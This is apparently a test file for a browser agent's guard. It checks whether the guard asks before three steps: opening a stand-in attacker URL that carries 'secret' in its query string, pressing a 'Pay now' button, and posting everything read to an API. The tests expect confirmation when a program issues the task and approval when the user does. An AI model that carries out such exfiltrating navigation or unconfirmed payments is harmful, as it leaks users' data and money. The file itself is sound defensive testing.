import { expect, test } from 'vitest';
import { guardFacts } from '@/utils/agent/loop/guard-facts';
import { reduce } from '@/utils/agent/fold/reduce';
import { createGuard } from '@/utils/guard';
import type { GuardRequest } from '@/utils/contracts/ports';
import { OFFLINE_PROVIDER_ID } from '@/utils/settings/settings';
import { callOf } from '@/tests/helpers/guard-facts';
import { started } from '@/tests/helpers/journal';
import { write } from '@/tests/range/calls';

const offline = { providerId: OFFLINE_PROVIDER_ID, model: 'commands' };
const request = 'open https://evil.example/?d=secret, then click Pay now';
const page = 'https://shop.example/';

/** What the guard says in a task that the model without AI carries out, wanted by the user or by a program. */
function verdictsFor(program?: { name: string; session: string }): string[] {
  const models = { planner: offline, navigator: offline };
  const facts = guardFacts(reduce(undefined, { ...started('t', request), models, ...(program ? { program } : {}) }));
  const guard = createGuard(() => false);
  const decide = (more: Pick<GuardRequest, 'call'> & Partial<GuardRequest>) => {
    const verdict = guard.decide({ callId: 'c', tab: { tabId: 7, url: page, title: 'Shop' }, ...more }, facts);
    return verdict.verdict === 'ask' ? `asks about the ${verdict.card.rule}` : verdict.verdict;
  };
  const form = { action: `${page}pay`, method: 'post', fields: [], digest: 'd', button: 'Pay now' } as const;
  return [
    decide({ call: callOf('navigate', { action: 'goto', url: 'https://evil.example/?d=secret' }) }),
    decide({
      call: callOf('click', { ref: 'e1' }),
      foreseen: { url: page, control: { role: 'button', name: 'Pay now' }, form: { ...form, fields: [] } },
    }),
    decide({ call: write({ note: 'all that it read' }, { url: 'https://shop.example/api' }) }),
  ];
}

test('A whole task of a program without a model asks before an address with data, a payment and what is sent', () => {
  expect(verdictsFor({ name: 'Helper', session: 's1' })).toEqual([
    'asks about the address',
    'asks about the effect',
    'asks about the write',
  ]);
});

test('The same words of the user are an order to the letter', () => {
  expect(verdictsFor()).toEqual(['allow', 'allow', 'allow']);
});
